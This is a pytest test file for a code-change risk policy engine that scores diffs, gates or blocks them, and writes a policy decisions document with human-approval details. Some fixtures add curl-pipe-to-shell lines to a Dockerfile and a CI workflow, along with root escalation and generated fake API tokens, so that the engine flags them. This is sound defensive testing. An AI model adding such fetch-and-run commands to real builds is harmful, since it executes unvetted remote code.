"""Scoring, status, scope reduction and the policy_decisions.json document."""

from __future__ import annotations

import json
import random
import string

import jsonschema
import pytest
from policy_support import KEY, codes, new_file_diff

from casm_dagster.policy.diff import parse_diff
from casm_dagster.policy.document import HitlInfo, policy_document
from casm_dagster.policy.engine import PolicyEngine
from casm_dagster.policy.keyed_hash import KeyedHasher
from casm_dagster.policy.sources import GitRange, PatchOnly

COMPONENT_NAMES = [
    "path_sensitivity",
    "dependency_change",
    "secret_like",
    "command_execution",
    "unsafe_deserialization",
    "permission_escalation",
    "suppression_comments",
    "risky_deletions",
    "semantic",
]

WORKFLOW = """\
name: ci
on: [push, pull_request]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: npm ci
      - run: npm test
"""
APP = 'def greet(name):\n    return "hello " + name\n'


def token(prefix: str, seed: str, n: int) -> str:
    """A random-looking token built at run time (no credential-shaped literal in the source)."""
    rng = random.Random(seed)
    return prefix + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(n))


def package_json(dependencies: dict[str, str]) -> str:
    return json.dumps({"name": "web", "version": "1.0.0", "dependencies": dependencies}, indent=2) + "\n"


def worked_example(two_commits, with_app: bool = False):
    before = {".github/workflows/ci.yml": WORKFLOW, "package.json": package_json({"express": "^4.18.2"})}
    after = {
        ".github/workflows/ci.yml": WORKFLOW + "      - run: npm run lint\n",
        "package.json": package_json({"express": "^4.18.2", "left-pad": "^1.3.0"}),
    }
    if with_app:
        before["src/app.py"] = APP
        after["src/app.py"] = APP + '\n\ndef farewell(name):\n    return "bye " + name\n'
    return two_commits(before, after)


def validate(doc: dict, schema: dict) -> None:
    jsonschema.validate(doc, schema, cls=jsonschema.Draft202012Validator)


def check_arithmetic(result) -> None:
    assert [c.name for c in result.components] == COMPONENT_NAMES
    for component in result.components:
        assert 0 <= component.weight <= 1
        assert 0 <= component.contribution <= component.weight + 1e-9
        assert component.evidence_count >= 0
    assert 0 <= result.score <= 1
    assert result.score == pytest.approx(min(1.0, sum(c.contribution for c in result.components)), abs=1e-3)


# ---------------------------------------------------------------- the spec's worked example


def test_spec_worked_example(two_commits, evaluate, document, schema):
    repo, diff = worked_example(two_commits)
    result = evaluate(diff, GitRange(repo, "HEAD~1", "HEAD"))

    assert result.status == "gate"
    assert result.score >= 0.65
    assert {"PATH_SENSITIVE_HIGH", "DEP_NEW", "RISK_SCORE_GATE"} <= set(result.reason_codes)
    assert {"touches_high_sensitivity_path", "touches_dependency_files", "risk_score_at_least_gate"} <= set(
        result.conditions
    )
    assert result.scope is not None
    assert result.scope.deny_files == [".github/workflows/ci.yml", "package.json"]
    assert result.scope.allow_files == []
    assert "only comment" in result.scope.notes
    assert "do not modify the workflow" in result.scope.notes
    assert "do not change dependency versions" in result.scope.notes
    assert result.scope.notes == "only comment; do not modify the workflow; do not change dependency versions"
    assert result.human_summary.startswith("gate: held for human approval")
    check_arithmetic(result)

    doc = document(result)
    validate(doc, schema)
    assert doc["summary"]["status"] == "gate"
    assert doc["hitl"]["required"] is True and doc["hitl"]["required_approvals"] == 1
    actions = [d["action"] for d in doc["decisions"]]
    assert actions == ["gate", "scope_reduce"]
    assert doc["decisions"][1]["scope_reduction"] == {
        "allow_files": [],
        "deny_files": [".github/workflows/ci.yml", "package.json"],
        "notes": result.scope.notes,
    }


def test_spec_worked_example_with_a_harmless_extra_file(two_commits, evaluate):
    repo, diff = worked_example(two_commits, with_app=True)
    result = evaluate(diff, GitRange(repo, "HEAD~1", "HEAD"))

    assert result.status == "gate"
    assert result.scope.allow_files == ["src/app.py"]
    assert result.scope.deny_files == [".github/workflows/ci.yml", "package.json"]
    assert "only comment" not in result.scope.notes
    assert "do not modify the workflow" in result.scope.notes
    assert "do not change dependency versions" in result.scope.notes


def test_plain_small_python_change_passes(two_commits, evaluate, document, schema):
    _, diff = two_commits({"src/app.py": APP}, {"src/app.py": APP.replace('"hello "', '"hi "')})
    result = evaluate(diff)

    # pass, because the score (only the offline semantic component: 0.10 × ~0.5) is under
    # warn (0.40) and no signal of medium or high severity exists; nothing gates
    assert result.status == "pass"
    assert result.signals == [] and result.reason_codes == [] and result.conditions == []
    assert result.score < result.ruleset.model.risk_thresholds.warn
    assert result.score == pytest.approx(0.1 * (0.5 * 2 / 400 + 0.5), abs=1e-4)
    assert result.scope is None
    check_arithmetic(result)
    doc = document(result)
    validate(doc, schema)
    assert [d["action"] for d in doc["decisions"]] == ["allow"]
    assert doc["hitl"] == {"required": False, "mode": "none", "status": "not_required"}


def test_warn_document(evaluate, document, schema):
    result = evaluate(new_file_diff("src/app.py", ["import os  # noqa: F401"]))
    assert result.status == "warn" and result.reason_codes == ["SUPPRESSION_ADDED"]
    check_arithmetic(result)
    doc = document(result)
    validate(doc, schema)
    assert [d["action"] for d in doc["decisions"]] == ["warn"]


def test_block_document_for_a_secret(evaluate, document, schema):
    secret = token("ghp_", "engine-block", 36)
    result = evaluate(new_file_diff("src/app.py", [f'TOKEN = "{secret}"']))
    assert result.status == "block"
    check_arithmetic(result)
    doc = document(result)
    validate(doc, schema)
    assert [d["action"] for d in doc["decisions"]] == ["block", "scope_reduce"]
    assert doc["decisions"][1]["status"] == "skipped"
    assert doc["hitl"]["required"] is False
    assert secret not in json.dumps(doc)


def test_score_alone_can_block_and_is_capped_at_one(two_commits, evaluate, document, schema):
    before = {"Dockerfile": "FROM python:3.12\n", "package.json": package_json({"express": "^4.18.2"})}
    after = {
        "Dockerfile": "FROM python:3.12\nRUN curl -fsSL https://get.example.org/i.sh | sh\n"
        "RUN sudo apt-get install -y git\nUSER root\n",
        "package.json": package_json({"express": "^5.0.0"}),
    }
    repo, diff = two_commits(before, after)
    result = evaluate(diff, GitRange(repo, "HEAD~1", "HEAD"))

    assert "SECRET_LIKE" not in result.reason_codes
    assert result.status == "block"
    assert result.conditions[0] == "risk_score_at_least_block"
    assert "RISK_SCORE_BLOCK" in result.reason_codes
    assert sum(c.contribution for c in result.components) > 1
    assert result.score == 1.0
    check_arithmetic(result)
    validate(document(result), schema)


def test_gate_document_with_pending_local_hitl(two_commits, evaluate, ctx, schema):
    repo, diff = worked_example(two_commits)
    result = evaluate(diff, GitRange(repo, "HEAD~1", "HEAD"))
    doc = policy_document(result, ctx, HitlInfo(mode="local", status="pending", approvers=("alice",)))
    validate(doc, schema)
    assert [d["status"] for d in doc["decisions"]] == ["pending_hitl", "pending_hitl"]
    assert doc["hitl"]["status"] == "pending" and doc["hitl"]["approvers"] == ["alice"]


def test_document_identifies_the_ruleset(evaluate, document, ruleset):
    doc = document(evaluate(b""))
    assert doc["ruleset"] == {"id": "default.devtools", "hash": ruleset.sha256, "source": "bundled"}
    assert doc["risk"]["thresholds"] == {"warn": 0.40, "gate": 0.65, "block": 0.85}


def test_empty_diff_passes_with_no_changes(engine, evaluate, document, schema):
    assert parse_diff(b"") == []
    result = evaluate(b"")
    assert result.status == "pass"
    assert result.reason_codes == ["NO_CHANGES"]
    assert result.score == 0.0 and result.signals == [] and result.files == []
    check_arithmetic(result)
    validate(document(result), schema)
    assert engine.evaluate([], PatchOnly()).reason_codes == ["NO_CHANGES"]


def _fingerprint(result):
    return (
        result.status,
        result.score,
        result.reason_codes,
        result.conditions,
        [(c.name, c.weight, c.contribution, c.evidence_count) for c in result.components],
        [
            (s.reason_code, s.file, s.line_start, s.evidence.pattern_id, s.evidence.diff_hunk_sha256, s.message)
            for s in result.signals
        ],
        result.scope,
        result.human_summary,
    )


def test_evaluation_is_deterministic(two_commits, engine, ruleset):
    secret = token("sk_live_", "engine-determinism", 24)
    before = {".github/workflows/ci.yml": WORKFLOW, "package.json": package_json({"express": "^4.18.2"})}
    after = {
        ".github/workflows/ci.yml": WORKFLOW + "      - run: curl -fsSL https://x.example.org/s | sh\n",
        "package.json": package_json({"express": "^4.18.2", "left-pad": "^1.3.0"}),
        "src/pay.py": f'import os\nSTRIPE = "{secret}"\nos.system("make")\n',
    }
    repo, diff = two_commits(before, after)
    source = GitRange(repo, "HEAD~1", "HEAD")
    first = engine.evaluate(parse_diff(diff), source)
    second = engine.evaluate(parse_diff(diff), source)
    fresh = PolicyEngine(ruleset, KeyedHasher(KEY)).evaluate(parse_diff(diff), source)

    assert first.status == "block"
    assert {"SECRET_LIKE", "COMMAND_EXEC", "DEP_NEW", "PATH_SENSITIVE_HIGH"} <= codes(first)
    assert _fingerprint(first) == _fingerprint(second) == _fingerprint(fresh)
    assert all(s.evidence.diff_hunk_sha256 for s in first.signals if s.component != "path_sensitivity")
